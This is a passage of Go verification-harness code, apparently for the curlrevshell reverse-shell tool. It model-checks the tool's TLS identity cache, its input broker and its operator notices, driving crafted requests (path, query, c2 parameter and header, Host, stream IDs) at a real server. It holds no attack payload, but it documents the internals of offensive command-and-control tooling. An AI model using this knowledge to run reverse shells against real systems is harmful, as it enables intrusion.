		r.Inconclusive("TLC %s: err=%v violated=%q\n%s", cfg, err, resViolated(res), tail(res))
		return nil, res
	}
	g.SetInitByNoIncoming()
	return g, res
}

type idnJob struct {
	walk  []int
	depth int
	seed  int64
	force idn.Force
	res   *idn.Result
	err   error
}

func runIdnJobs(g *graph.G, jobs []*idnJob) {
	var wg sync.WaitGroup
	sem := make(chan struct{}, runtime.NumCPU())
	for _, j := range jobs {
		wg.Add(1)
		sem <- struct{}{}
		go func(j *idnJob) {
			defer wg.Done()
			defer func() { <-sem }()
			j.res, j.err = idn.Replay(g, j.walk, os.Getenv("VERIF_SCRATCH"), j.depth, j.seed, j.force, idn.InProc{})
		}(j)
	}
	wg.Wait()
}

// findWalk returns edge indexes for a label path from Init (first match).
func findWalk(g *graph.G, labels ...string) []int {
	cur := g.Init
	var w []int
	for _, want := range labels {
		found := -1
		for _, oi := range g.Out[cur] {
			var a idn.Act
			json.Unmarshal(g.Edges[oi].Act, &a)
			l := a.N
			if a.N == "Crash" || a.N == "Damage" {
				l += ":" + a.Cl
			}
			if a.N == "Start" {
				l += fmt.Sprintf(":%v", a.C)
			}
			if l == want {
				found = oi
				break
			}
		}
		if found < 0 {
			return nil
		}
		w = append(w, found)
		cur = g.Edges[found].To
	}
	return w
}

func idnCampaign(r *ev.Run, prop string) {
	rng := rand.New(rand.NewSource(r.Seed))
	cfg := "Identity_q"
	if r.Tier == "thorough" {
		cfg = "Identity_t"
	}
	g, res := idnGraph(r, cfg)
	if g == nil {
		return
	}
	r.Add("states", res.Distinct)
	r.Add("transitions", len(g.Edges))
	var jobs []*idnJob
	depths := []int{0, 1, 3}
	for i, w := range g.CoveringWalks(rng, 12) {
		jobs = append(jobs, &idnJob{walk: w, depth: depths[i%3], seed: r.Seed*31337 + int64(i), force: idn.NoForce})
	}
	nwalks := len(jobs)
	// crash points: every prefix length (thorough) or class boundaries +-2 and seeded offsets (quick)
	probe, err := idn.NewWorld(os.Getenv("VERIF_SCRATCH"), 0, r.Seed)
	if err != nil {
		r.Inconclusive("scratch: %v", err)
		return
	}
	b, _, err := probe.FreshFile()
	probe.Close()
	if err != nil {
		r.Inconclusive("cannot produce a cache file: %v", err)
		return
	}
	reg, err := idn.Layout(b)
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	cuts := map[int]bool{}
	if true { // all prefixes take about a second: do them in both tiers
		for n := 0; n < reg.Len; n++ {
			cuts[n] = true
		}
	} else {
		for _, e := range []int{0, reg.CommentEnd, reg.CertHdrEnd, reg.CertEnd, reg.KeyHdrEnd, reg.Len - 1} {
			for d := -2; d <= 2; d++ {
				if n := e + d; n >= 0 && n < reg.Len {
					cuts[n] = true
				}
			}
		}
		for k := 0; k < 64; k++ {
			cuts[rng.Intn(reg.Len)] = true
		}
	}
	ncuts := 0
	for n := range cuts {
		cl := reg.CutClass(n)
		w := findWalk(g, "Crash:"+cl, "Start:true")
		if w == nil {
			r.Inconclusive("no specification path Crash(%s),Start", cl)
			return
		}
		f := idn.NoForce
		f.Cut = n
		jobs = append(jobs, &idnJob{walk: w, depth: n % 2, seed: r.Seed + int64(n), force: f})
		ncuts++
	}
	// single-byte corruptions of a complete file
	ndam := 0
	classes := []string{"comment", "certmarker", "certbody", "keymarker", "keybody", "armour"}
	perClass := 60
	if r.Tier == "thorough" {
		perClass = 400
	}
	for _, cl := range classes {
		w := findWalk(g, "Start:true", "Stop", "Damage:"+cl, "Start:true")
		if w == nil {
			r.Inconclusive("no specification path Start,Stop,Damage(%s),Start", cl)
			return
		}
		for k := 0; k < perClass; k++ {
			jobs = append(jobs, &idnJob{walk: w, depth: k % 2, seed: r.Seed*7 + int64(k) + int64(len(cl))*1000, force: idn.NoForce})
			ndam++
		}
	}
	if !selfTestIdn(r, g) {
		return
	}
	runIdnJobs(g, jobs)
	distinct := map[string]bool{}
	seen := map[string]bool{}
	steps := 0
	for _, j := range jobs {
		if j.err != nil {
			r.Inconclusive("identity replay: %v", j.err)
			continue
		}
		steps += j.res.Steps
		if j.res.Starts > 0 {
			distinct[strings.Join(j.res.Labels, " ")] = true
		}
		for _, d := range j.res.Divs {
			if d.Prop != prop {
				fmt.Printf("note: divergence attributed to %s (%s): %s\n", d.Prop, d.Aspect, d.Desc)
				continue
			}
			if seen[d.Aspect] {
				continue
			}
			// reproduce twice
			ok := 0
			for k := 0; k < 2; k++ {
				r2, err := idn.Replay(g, j.walk, os.Getenv("VERIF_SCRATCH"), j.depth, j.seed, j.force, idn.InProc{})
				if err == nil {
					for _, d2 := range r2.Divs {
						if d2.Aspect == d.Aspect {
							ok++
							break
						}
					}
				}
			}
			if ok < 2 {
				r.Inconclusive("divergence %s did not reproduce: %s", d.Aspect, d.Desc)
				continue
			}
			seen[d.Aspect] = true
			r.Violation(d.Aspect, map[string]any{"kind": "Identity-walk", "desc": d.Desc, "step": d.Step, "labels": j.res.Labels, "depth": j.depth, "seed": j.seed, "force": j.force})
		}
	}
	for i := 0; i < 3 && i < len(jobs); i++ {
		j := jobs[rng.Intn(len(jobs))]
		if j.res != nil {
			r.Sample(j.res.Labels)
		}
	}
	r.Add("evaluations", len(jobs))
	r.Add("distinct_nontrivial", len(distinct))
	r.Add("traces_validated_against_impl", len(jobs))
	r.Set("edge_cover_walks", nwalks)
	r.Set("crash_points", ncuts)
	r.Set("cache_file_len", reg.Len)
	r.Set("corruptions", ndam)
	r.Set("replayed_steps", steps)
	r.Set("exhaustive", r.Tier == "thorough")
	r.Rule("histories of start(with/without cache)/stop/crash-during-save/damage/delete from Identity.tla's TLC graph (every edge covered) are replayed on real files through sstls.Listen and a TLS handshake; crash points: every prefix length of the cache file; corruptions: seeded single bytes per class; non-trivial = distinct concretised histories with at least one run")
	r.Append("tlc_invariants_checked", "Identity: StableKey TornNeverSilentlyDifferent AdvertisedIsServed NeverRewritten MissingRegenerates UncachedLeavesFile")
	r.Assume("SHA-256, X.509 parsing and TLS are trusted; keys are identified by the SPKI hash seen in a handshake")
	r.Assume("process death during the write is modelled by the prefix it leaves behind (WriteFile is a single write of the whole buffer)")
}

// selfTestIdn: a run that silently serves a new key for a torn file must be refused by the replay's oracle.
func selfTestIdn(r *ev.Run, g *graph.G) bool {
	w := findWalk(g, "Crash:certbody", "Start:true")
	if w == nil {
		r.Inconclusive("self-test: no path Crash(certbody),Start")
		return false
	}
	// the specification must not offer a "generated" edge after the crash
	cur := g.Edges[w[0]].To
	for _, oi := range g.Out[cur] {
		var a idn.Act
		json.Unmarshal(g.Edges[oi].Act, &a)
		if a.N == "Start" && a.C && a.R == "generated" {
			r.Inconclusive("self-test: specification allows regenerating over a torn file")
			return false
		}
	}
	r.Append("selftest", "Identity graph offers no 'generated' outcome for a start on a torn/damaged cache, so such a run is refused by the replay")
	return true
}
