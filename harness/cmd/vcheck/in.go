package main

import (
	"encoding/json"
	"fmt"
	"math/rand"
	"os"
	"runtime"
	"sort"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/brk"
	"github.com/magisterquis/curlrevshell/verifharness/ev"
	"github.com/magisterquis/curlrevshell/verifharness/graph"
	"github.com/magisterquis/curlrevshell/verifharness/tlcrun"
)

func init() {
	register("C02", "model_checking", func(r *ev.Run) {
		inCampaign(r, "C02")
		liveInputLeg(r)
		opInputLeg(r)
		transcriptLeg(r, "C02", map[string]int{"quick": 300, "thorough": 3000}[r.Tier])
	})
	register("C11", "model_checking", func(r *ev.Run) {
		inCampaign(r, "C11")
		outCampaign(r, "C11")
		ctlCampaign(r, "C11")
		logFileLeg(r)
	})
}

func inSchedules(r *ev.Run, cfg string, rng *rand.Rand, maxLen int) [][]brk.InStep {
	g := graph.New()
	var mu sync.Mutex
	res, err := tlcrun.Run(tlcrun.Opts{Module: "BrokerInEmit", Config: cfg, Workers: 4, Timeout: 10 * time.Minute,
		OnTagged: func(tag, p string) {
			if tag == "EDGE" {
				mu.Lock()
				g.AddEdgeJSON(p)
				mu.Unlock()
			}
		}})
	if err != nil || res.TimedOut || res.Violated != "" {
		r.Inconclusive("TLC %s: err=%v violated=%q\n%s", cfg, err, resViolated(res), tail(res))
		return nil
	}
	g.SetInitByNoIncoming()
	seen := map[string]bool{}
	var out [][]brk.InStep
	for _, w := range g.CoveringWalks(rng, maxLen) {
		var s []brk.InStep
		for _, ei := range w {
			var st brk.InStep
			json.Unmarshal(g.Edges[ei].Act, &st)
			if st.N != "tau" {
				s = append(s, st)
			}
		}
		k, _ := json.Marshal(s)
		if len(s) == 0 || seen[string(k)] {
			continue
		}
		seen[string(k)] = true
		out = append(out, s)
	}
	sort.Slice(out, func(i, j int) bool {
		a, _ := json.Marshal(out[i])
		b, _ := json.Marshal(out[j])
		return string(a) < string(b)
	})
	rng.Shuffle(len(out), func(i, j int) { out[i], out[j] = out[j], out[i] })
	return out
}

func inTraceCfg(lines, shells int) string {
	return fmt.Sprintf(`SPECIFICATION TSpec
CONSTANTS
  MaxLines = %d
  MaxShells = %d
INVARIANTS NotAllConsumed GapFree LostOnlyOnOwnError OneInHand LogMatchesDelivery
CHECK_DEADLOCK FALSE
`, lines, shells)
}

// inAttributeAll names every property the refusal of event at of trace t contradicts.
func inAttributeAll(t []brk.TraceEv, at int, inv string) [][2]string {
	p, a := inAttribute(t[at], inv)
	out := [][2]string{{p, a}}
	e := t[at]
	if inv == "" && (e["e"] == "Log" || e["e"] == "Write") {
		// what did this shell do just before?  A record or a further write right after a
		// successful write on a flushable writer means the line was never flushed.
		kind := ""
		for _, x := range t[:at] {
			if x["e"] == "Attach" && fmt.Sprint(x["s"]) == fmt.Sprint(e["s"]) {
				kind, _ = x["k"].(string)
			}
		}
		for i := at - 1; i >= 0; i-- {
			x := t[i]
			if fmt.Sprint(x["s"]) != fmt.Sprint(e["s"]) || (x["e"] != "Write" && x["e"] != "Flush" && x["e"] != "Log") {
				continue
			}
			if x["e"] == "Flush" && x["ok"] == false {
				// the shell went on after a flush that failed: the line is lost although its shell was
				// not ended, and what follows arrives with a gap
				out = append([][2]string{{"C02", "input:continues-after-failed-flush"}}, out...)
			}
			if x["e"] == "Write" && x["ok"] == true && kind != "plain" && kind != "" {
				out = append([][2]string{{"C02", "input:line-not-flushed"}}, out...)
				if e["e"] == "Log" {
					out = append(out, [2]string{"C11", "input-log:record-before-delivery"})
				}
			}
			break
		}
	}
	return out
}

func inAttribute(e brk.TraceEv, inv string) (string, string) {
	switch inv {
	case "LogMatchesDelivery":
		return "C11", "input-log:" + inv
	case "":
	default:
		return "C02", "input:" + inv
	}
	switch e["e"] {
	case "Write":
		return "C02", "input:write"
	case "Flush":
		return "C02", "input:flush"
	case "Stall":
		return "C02", "input:not-prompt"
	case "Log":
		return "C11", "input-log:record"
	case "Released":
		return "C04", "input:release"
	case "Quiesced":
		return "C04", "input:not-torn-down"
	}
	return "", "harness:" + fmt.Sprint(e["e"])
}

type inRun struct {
	sched []brk.InStep
	opts  brk.InOpts
	res   *brk.InResult
}

func inCampaign(r *ev.Run, prop string) {
	rng := rand.New(rand.NewSource(r.Seed))
	cfg, emit, limit := "BrokerIn_q", "BrokerInEmit_q", 600
	if r.Tier == "thorough" {
		cfg, emit, limit = "BrokerIn_t", "BrokerInEmit_t", 1<<30
	}
	res, err := tlcrun.Run(tlcrun.Opts{Module: "BrokerIn", Config: cfg, Workers: 4, Timeout: 10 * time.Minute})
	if err != nil || res.TimedOut || res.Violated != "" || !res.OK {
		r.Inconclusive("TLC %s: err=%v violated=%q\n%s", cfg, err, resViolated(res), tail(res))
		return
	}
	r.Add("states", res.Distinct)
	r.Add("transitions", res.Generated)
	scheds := inSchedules(r, emit, rng, 60)
	if scheds == nil {
		return
	}
	r.Set("input_schedules", len(scheds))
	if len(scheds) > limit {
		scheds = scheds[:limit]
	}
	var runs []*inRun
	for i, s := range scheds {
		runs = append(runs, &inRun{sched: s, opts: brk.InOpts{Settle: true, Seed: r.Seed*104729 + int64(i)}})
		if i%3 == 0 {
			runs = append(runs, &inRun{sched: s, opts: brk.InOpts{Settle: false, Seed: r.Seed*104729 + int64(i) + 1}})
		}
		if i%4 == 1 {
			runs = append(runs, &inRun{sched: s, opts: brk.InOpts{Settle: true, IO: true, Seed: r.Seed*104729 + int64(i) + 2}})
		}
		if i%4 == 2 {
			runs = append(runs, &inRun{sched: s, opts: brk.InOpts{Prompt: true, Seed: r.Seed*104729 + int64(i) + 3}})
		}
	}
	var wg sync.WaitGroup
	sem := make(chan struct{}, runtime.NumCPU())
	for _, ru := range runs {
		wg.Add(1)
		sem <- struct{}{}
		go func(ru *inRun) {
			defer wg.Done()
			defer func() { <-sem }()
			t1 := time.Now()
			ru.res = brk.RunIn(ru.sched, ru.opts)
			if d := time.Since(t1); d > time.Second && os.Getenv("VERIF_SLOW") != "" {
				fmt.Printf("SLOW %v %+v %v\n", d, ru.opts, ru.sched)
			}
		}(ru)
	}
	wg.Wait()
	var traces [][]brk.TraceEv
	var which []*inRun
	maxLines, maxShells := 3, 2
	nontrivial := map[string]bool{}
	nev := 0
	for _, ru := range runs {
		if ru.res.Infra != nil {
			r.Inconclusive("input run: %v (%v)", ru.res.Infra, ru.sched)
			continue
		}
		nl, ns, nw := 0, 0, 0
		for _, e := range ru.res.Trace {
			switch e["e"] {
			case "Enter":
				nl++
			case "Attach":
				ns++
			case "Write":
				nw++
			}
		}
		if nl > maxLines {
			maxLines = nl
		}
		if ns > maxShells {
			maxShells = ns
		}
		traces = append(traces, ru.res.Trace)
		which = append(which, ru)
		nev += len(ru.res.Trace)
		if nw > 0 {
			k, _ := json.Marshal(ru.res.Trace)
			nontrivial[string(k)] = true
		}
	}
	cfgText := inTraceCfg(maxLines, maxShells)
	if !selfTestIn(r, cfgText, traces) {
		return
	}
	tv := time.Now()
	ok, tres, err := traceAccepted("BrokerInTrace", cfgText, traces)
	if err != nil {
		r.Inconclusive("input trace validation: %v\n%s", err, tail(tres))
		return
	}
	fmt.Printf("input trace validation: %d traces, accepted=%v, %v\n", len(traces), ok, time.Since(tv))
	r.Add("trace_validation_states", tres.Distinct)
	if !ok {
		idx := make([]int, len(traces))
		for i := range idx {
			idx[i] = i
		}
		var rej []int
		reportedIn := map[string]bool{}
		if err := findRejected("BrokerInTrace", cfgText, idx, traces, 8, &rej); err != nil {
			r.Inconclusive("bisecting rejected traces: %v", err)
			return
		}
		for _, k := range rej {
			at, inv, err := firstRefused("BrokerInTrace", cfgText, traces[k])
			if err != nil || at < 0 {
				r.Inconclusive("locating refused event: %v", err)
				continue
			}
			ru := which[k]
			detail := map[string]any{"kind": "BrokerIn-trace", "io": ru.opts.IO, "settle": ru.opts.Settle, "seed": ru.opts.Seed,
				"schedule": ru.sched, "trace": traces[k], "refused_event_index": at, "refused_event": traces[k][at], "violated_invariant": inv}
			attrs := inAttributeAll(traces[k], at, inv)
			mine := ""
			for _, pa := range attrs {
				if pa[0] == prop {
					mine = pa[1]
				}
			}
			switch {
			case attrs[0][0] == "" && mine == "":
				r.Inconclusive("input trace rejected at a harness event %v: %v", traces[k][at], traces[k])
			case mine != "" && reportedIn[mine]:
				// the same refusal again
			case mine != "":
				hits := 0
				for n := 0; n < 8 && hits < 2; n++ {
					rr := brk.RunIn(ru.sched, ru.opts)
					if rr.Infra != nil {
						continue
					}
					if ok2, _, err := traceAccepted("BrokerInTrace", cfgText, [][]brk.TraceEv{rr.Trace}); err == nil && !ok2 {
						at2, inv2, _ := firstRefused("BrokerInTrace", cfgText, rr.Trace)
						if at2 >= 0 {
							for _, pa := range inAttributeAll(rr.Trace, at2, inv2) {
								if pa[0] == prop && pa[1] == mine {
									hits++
									break
								}
							}
						}
					}
				}
				if hits >= 2 {
					reportedIn[mine] = true // a refusal that did not come back leaves the aspect open: the next refused trace of its kind is tried too
					r.Violation(mine, detail)
				} else if hits == 0 {
					transient(r, "rejected input trace (%s): %v\n trace %v at %d", mine, ru.sched, traces[k], at)
				} else {
					r.Inconclusive("rejected input trace reproduced only once in eight re-executions (%s): %v\n trace %v at %d", mine, ru.sched, traces[k], at)
				}
			default:
				fmt.Printf("note: rejected input trace attributed to %v; reported by that property's check\n", attrs)
				if os.Getenv("VERIF_DEBUG") != "" {
					fmt.Printf("  at %d of %v (%+v)\n", at, traces[k], ru.opts)
				}
			}
		}
	}
	if len(runs) > 0 {
		ru := runs[rng.Intn(len(runs))]
		r.Sample(map[string]any{"schedule": ru.sched, "trace": ru.res.Trace})
	}
	r.Add("traces_validated_against_impl", len(traces))
	r.Add("trace_events", nev)
	r.Add("evaluations", len(traces))
	r.Add("distinct_nontrivial", len(nontrivial))
	r.Rule("input-path schedules (enter line, attach a shell with writer kind flusherr/flusher/plain/both, write and flush results incl. failures, cancellation, closing the input channel) are the projections of walks covering every edge of BrokerIn's TLC graph; each is executed on a real Broker (settled with a promptness check, racing, and through ConnectInOut) and the recorded trace validated by TLC against BrokerInTrace; non-trivial = distinct traces with at least one write")
	r.Append("tlc_invariants_checked", "BrokerIn: GapFree LostOnlyOnOwnError OneInHand LogMatchesDelivery FlushBeforeNextTake; liveness Prompt EndsWhenCancelled")
	r.Assume("line contents come from a seeded family (empty, 1 byte, ~70 KiB, embedded newlines, arbitrary bytes, quotes and % verbs)")
}

func selfTestIn(r *ev.Run, cfgText string, traces [][]brk.TraceEv) bool {
	for _, t := range traces {
		for i, e := range t {
			if e["e"] == "Write" && e["ok"] == true {
				bad := make([]brk.TraceEv, 0, len(t)+1)
				bad = append(bad, t[:i+1]...)
				bad = append(bad, e) // the same line written twice
				bad = append(bad, t[i+1:]...)
				ok, _, err := traceAccepted("BrokerInTrace", cfgText, [][]brk.TraceEv{bad})
				if err != nil || ok {
					r.Inconclusive("self-test: an input trace with a duplicated write was accepted (%v)", err)
					return false
				}
				r.Append("selftest", "input trace with a duplicated Write rejected")
				return true
			}
		}
	}
	r.Inconclusive("self-test: no input trace with a successful write")
	return false
}
