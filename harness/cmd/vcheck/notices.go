package main

import (
	"crypto/tls"
	"encoding/json"
	"fmt"
	"net"
	"net/url"
	"os"
	"path/filepath"
	"runtime"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifharness/ev"
	"github.com/magisterquis/curlrevshell/verifharness/srv"
	"github.com/magisterquis/curlrevshell/verifharness/tlcrun"
)

func init() {
	register("C10", "exploration", noticesCampaign)
}

type ntCase struct {
	Action string   `json:"action"`
	Field  string   `json:"field"`
	Toks   []string `json:"toks"`
}

func isHex(c byte) bool {
	return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F')
}

// wireEscape makes text legal inside a request target: a '%' that does not
// start a valid escape becomes %25, and the characters a target cannot carry
// are escaped; valid escapes such as %20 stay as they are.
func wireEscape(text string) string {
	var sb strings.Builder
	for i := 0; i < len(text); i++ {
		c := text[i]
		switch {
		case c == '%' && i+2 < len(text)+0 && i+2 <= len(text)-1+0 && isHex(text[i+1]) && isHex(text[i+2]):
			sb.WriteString(text[i : i+3])
			i += 2
		case c == '%':
			sb.WriteString("%25")
		case c == ' ':
			sb.WriteString("%20")
		case c == '#':
			sb.WriteString("%23")
		case c == '?':
			sb.WriteString("%3F")
		default:
			sb.WriteByte(c)
		}
	}
	return sb.String()
}

func ntText(toks []string) string {
	var sb strings.Builder
	for _, t := range toks {
		if t == "plain" {
			sb.WriteString("pl")
		} else {
			sb.WriteString(t)
		}
	}
	return sb.String()
}

// hold opens a request and keeps the connection until closed.
func hold(addr, target string) (net.Conn, error) {
	c, err := tls.DialWithDialer(&net.Dialer{Timeout: 3 * time.Second}, "tcp", addr, &tls.Config{InsecureSkipVerify: true})
	if err != nil {
		return nil, err
	}
	fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: held\r\n\r\n", target)
	return c, nil
}

type ntFinding struct {
	key    string
	detail map[string]any
}

// ntWorker runs a slice of cases against its own server.
func ntWorker(dir string, cases []ntCase, held bool) (fs []ntFinding, trivial int, infra error) {
	s, err := srv.Start(srv.Opts{Fdir: dir})
	if err != nil {
		return nil, 0, err
	}
	defer s.Stop()
	var base net.Conn
	if held {
		base, err = hold(s.Addr, "/i/base-id")
		if err != nil {
			return nil, 0, err
		}
		defer base.Close()
		if _, ok := s.WaitLine(0, 5*time.Second, func(cl opshell.CLine) bool { return strings.Contains(cl.Line, "base-id") }); !ok {
			return nil, 0, fmt.Errorf("base stream not attached")
		}
	}
	for _, c := range cases {
		text := ntText(c.Toks)
		wire := wireEscape(text)
		decoded, _ := url.PathUnescape(wire)
		n0 := s.NLines()
		var resp srv.Resp
		var conn net.Conn
		switch c.Field {
		case "path":
			resp = srv.Get(s.Addr, "/f/"+wire, "h")
		case "query":
			resp = srv.Get(s.Addr, "/f/x?q="+wire, "h")
			decoded = wire // the query is reported as sent
		case "c2-param":
			w2 := strings.ReplaceAll(strings.ReplaceAll(wire, "+", "%2B"), "&", "%26")
			resp = srv.Get(s.Addr, "/c?c2="+w2, "h")
			wire = w2
			decoded, _ = url.QueryUnescape(w2)
		case "c2-header":
			resp = srv.Get(s.Addr, "/c", "h", "c2: "+text)
			wire, decoded = text, text
		case "host":
			resp = srv.Get(s.Addr, "/c", text)
			wire, decoded = text, text
		case "attached-id":
			// the client text is the ID of the stream that is attached; the refused request has a plain one
			first, err := hold(s.Addr, "/i/"+wire)
			if err != nil {
				return fs, trivial, err
			}
			if _, ok := s.WaitLine(n0, 2*time.Second, func(cl opshell.CLine) bool { return strings.Contains(cl.Line, "connected") }); !ok {
				// net/http refused the target: nothing attached, nothing to report
				first.Close()
				trivial++
				continue
			}
			n0 = s.NLines()
			conn, err = hold(s.Addr, "/o/plain-other-id")
			if err != nil {
				first.Close()
				return fs, trivial, err
			}
			s.WaitLine(n0, 3*time.Second, func(cl opshell.CLine) bool { return strings.Contains(cl.Line, "Rejected") })
			first.Close()
		case "id":
			target := "/i/" + wire
			if c.Action == "output-connected" || c.Action == "refused-wrong-id" {
				target = "/o/" + wire
			}
			var err error
			conn, err = hold(s.Addr, target)
			if err != nil {
				return fs, trivial, err
			}
		}
		// wait for the notice(s) of this request
		var lines []srv.Line
		dl := time.Now().Add(3 * time.Second)
		for {
			lines = s.Lines()[n0:]
			if len(lines) > 0 || resp.Status == 400 || time.Now().After(dl) {
				break
			}
			time.Sleep(300 * time.Microsecond)
		}
		if conn != nil {
			if len(lines) == 0 {
				// maybe net/http refused the target; read what came back
				conn.SetReadDeadline(time.Now().Add(200 * time.Millisecond))
				b := make([]byte, 64)
				conn.Read(b)
			}
			conn.Close()
			if !held && len(lines) > 0 {
				// let the shell go away before the next case
				s.WaitLine(n0, 3*time.Second, func(cl opshell.CLine) bool { return strings.Contains(cl.Line, iobroker.ShellDisconnectedMessage) })
			}
			time.Sleep(200 * time.Microsecond)
			lines = s.Lines()[n0:]
		}
		if len(lines) == 0 {
			trivial++ // refused by net/http before any handler ran: nothing was reported
			continue
		}
		found, artefact := false, ""
		for _, l := range lines {
			if l.CL.Plain {
				continue
			}
			if strings.Contains(l.CL.Line, "%!") {
				artefact = l.CL.Line
			}
			// as sent, as URL-decoded, or as decoded and shown in Go's quoted form (%q of an ID):
			// all three present the client's text as data
			q := strconv.Quote(decoded)
			if strings.Contains(l.CL.Line, wire) || strings.Contains(l.CL.Line, decoded) || strings.Contains(l.CL.Line, q[1:len(q)-1]) {
				found = true
			}
		}
		var texts []string
		for _, l := range lines {
			texts = append(texts, l.CL.Line)
		}
		d := map[string]any{"action": c.Action, "field": c.Field, "tokens": c.Toks, "sent": wire, "decoded": decoded, "notices": texts, "status": resp.Status}
		site := c.Action
		if c.Field != "id" {
			site = c.Field
		}
		switch {
		case artefact != "":
			fs = append(fs, ntFinding{"formatter-artefact:" + site, d})
		case !found:
			fs = append(fs, ntFinding{"client-text-altered:" + site, d})
		}
	}
	return fs, trivial, nil
}

func noticesCampaign(r *ev.Run) {
	cfg := "Notices_q"
	if r.Tier == "thorough" {
		cfg = "Notices_t"
	}
	var mu sync.Mutex
	cases := map[string]ntCase{}
	res, err := tlcrun.Run(tlcrun.Opts{Module: "Notices", Config: cfg, Workers: 8, Timeout: 30 * time.Minute,
		OnTagged: func(tag, p string) {
			if tag != "CASE" {
				return
			}
			var c ntCase
			if json.Unmarshal([]byte(p), &c) == nil {
				mu.Lock()
				cases[p] = c
				mu.Unlock()
			}
		}})
	if err != nil || res.TimedOut || res.Violated != "" || !res.OK {
		r.Inconclusive("TLC %s: err=%v violated=%q\n%s", cfg, err, resViolated(res), tail(res))
		return
	}
	r.Append("tlc_invariants_checked", "Notices: NoticeVerbatim NoArtefact NothingAdded for every (reporting action, field, token sequence)")
	scratch, err := os.MkdirTemp(os.Getenv("VERIF_SCRATCH"), "notices-")
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	defer os.RemoveAll(scratch)
	fdir := filepath.Join(scratch, "files")
	os.MkdirAll(filepath.Join(fdir, "f"), 0o755)
	os.WriteFile(filepath.Join(fdir, "f", "x"), []byte("x\n"), 0o644)
	keys := make([]string, 0, len(cases))
	for k := range cases {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	var idle, heldCases []ntCase
	addrActions := map[string]bool{}
	for _, k := range keys {
		c := cases[k]
		if c.Field == "client-address" {
			addrActions[c.Action] = true // one request per action, from a zoned address
			continue
		}
		if (c.Action == "refused-duplicate" || c.Action == "refused-wrong-id") && c.Field != "attached-id" {
			heldCases = append(heldCases, c)
		} else {
			idle = append(idle, c)
		}
	}
	type part struct {
		cs   []ntCase
		held bool
	}
	var parts []part
	split := func(cs []ntCase, held bool) {
		n := runtime.NumCPU()
		for i := 0; i < n; i++ {
			var sl []ntCase
			for j := i; j < len(cs); j += n {
				sl = append(sl, cs[j])
			}
			if len(sl) > 0 {
				parts = append(parts, part{sl, held})
			}
		}
	}
	split(idle, false)
	split(heldCases, true)
	var all []ntFinding
	trivial := 0
	var wg sync.WaitGroup
	var amu sync.Mutex
	for _, p := range parts {
		wg.Add(1)
		go func(p part) {
			defer wg.Done()
			fs, tr, err := ntWorker(fdir, p.cs, p.held)
			amu.Lock()
			defer amu.Unlock()
			if err != nil {
				r.Inconclusive("notice worker: %v", err)
			}
			all = append(all, fs...)
			trivial += tr
		}(p)
	}
	wg.Wait()
	// the client address as client-supplied text: an IPv6 link-local address carries a "%zone"
	if len(addrActions) > 0 {
		fs, n, note := ntClientAddress(fdir, addrActions)
		all = append(all, fs...)
		r.Set("client_address_requests", n)
		if note != "" {
			r.Set("client_address_note", note)
		}
	}
	sort.Slice(all, func(i, j int) bool { return all[i].key < all[j].key })
	for _, f := range all {
		r.Violation(f.key, f.detail)
	}
	for i := 0; i < 3 && i < len(keys); i++ {
		c := cases[keys[(i*997)%len(keys)]]
		r.Sample(map[string]any{"action": c.Action, "field": c.Field, "tokens": c.Toks, "sent": wireEscape(ntText(c.Toks))})
	}
	r.Add("evaluations", len(cases))
	r.Add("distinct_nontrivial", len(cases)-trivial)
	r.Set("rejected_by_net_http_before_any_handler", trivial)
	r.Rule("TLC enumerates (reporting action, client-controlled field, sequence of format-significant tokens) from Notices.tla; each is sent as a real request (path, query, c2 parameter, c2 header, Host, callback ID on /i and /o, with an attached stream for the refusals) to a real hsrv over TLS and the operator lines it causes are read from the operator channel: no formatter artefact (%!) and the text as sent or as URL-decoded occurs in a notice; non-trivial = cases that reached a handler")
	r.Assume("the clause about every call site in the tree passing a computed format string is a static property and is not decided here (DESIGN.md section 8)")
	r.Assume("notices are recognised by arrival after the request on a sequentially driven server, not by their wording")
}

// ntClientAddress sends requests from an IPv6 link-local address (whose textual form contains
// "%zone") to a server listening on that address, and checks the notices.
func ntClientAddress(fdir string, actions map[string]bool) (fs []ntFinding, n int, note string) {
	var zoned string
	ifs, _ := net.Interfaces()
	for _, ifc := range ifs {
		addrs, _ := ifc.Addrs()
		for _, a := range addrs {
			if ipn, ok := a.(*net.IPNet); ok && ipn.IP.To4() == nil && ipn.IP.IsLinkLocalUnicast() {
				zoned = ipn.IP.String() + "%" + ifc.Name
			}
		}
	}
	if zoned == "" {
		return nil, 0, "this host has no IPv6 link-local address; the client-address cases were not run"
	}
	s, err := srv.Start(srv.Opts{Fdir: fdir, Addr: "[" + zoned + "]:0"})
	if err != nil {
		return nil, 0, "cannot listen on " + zoned + ": " + err.Error()
	}
	defer s.Stop()
	addr := s.Addr
	if !strings.Contains(addr, "%") {
		// the announced address may have lost the zone; dial with it
		if i := strings.LastIndex(addr, "]:"); i > 0 {
			addr = "[" + zoned + addr[i:]
		}
	}
	check := func(action string, n0 int) {
		var lines []srv.Line
		dl := time.Now().Add(3 * time.Second)
		for time.Now().Before(dl) {
			lines = s.Lines()[n0:]
			if len(lines) > 0 {
				break
			}
			time.Sleep(300 * time.Microsecond)
		}
		time.Sleep(2 * time.Millisecond)
		lines = s.Lines()[n0:]
		var texts []string
		found, artefact := false, false
		for _, l := range lines {
			if l.CL.Plain {
				continue
			}
			texts = append(texts, l.CL.Line)
			if strings.Contains(l.CL.Line, "%!") {
				artefact = true
			}
			if strings.Contains(l.CL.Line, zoned) {
				found = true
			}
		}
		d := map[string]any{"action": action, "field": "client-address", "client_address": zoned, "notices": texts}
		switch {
		case len(lines) == 0:
			// nothing reported at all: not this property's business
		case artefact:
			fs = append(fs, ntFinding{"formatter-artefact:client-address", d})
		case !found:
			fs = append(fs, ntFinding{"client-text-altered:client-address", d})
		}
	}
	dial := func() (net.Conn, error) {
		return tls.DialWithDialer(&net.Dialer{Timeout: 3 * time.Second}, "tcp", addr, &tls.Config{InsecureSkipVerify: true})
	}
	if actions["file-requested"] {
		n++
		n0 := s.NLines()
		if c, err := dial(); err == nil {
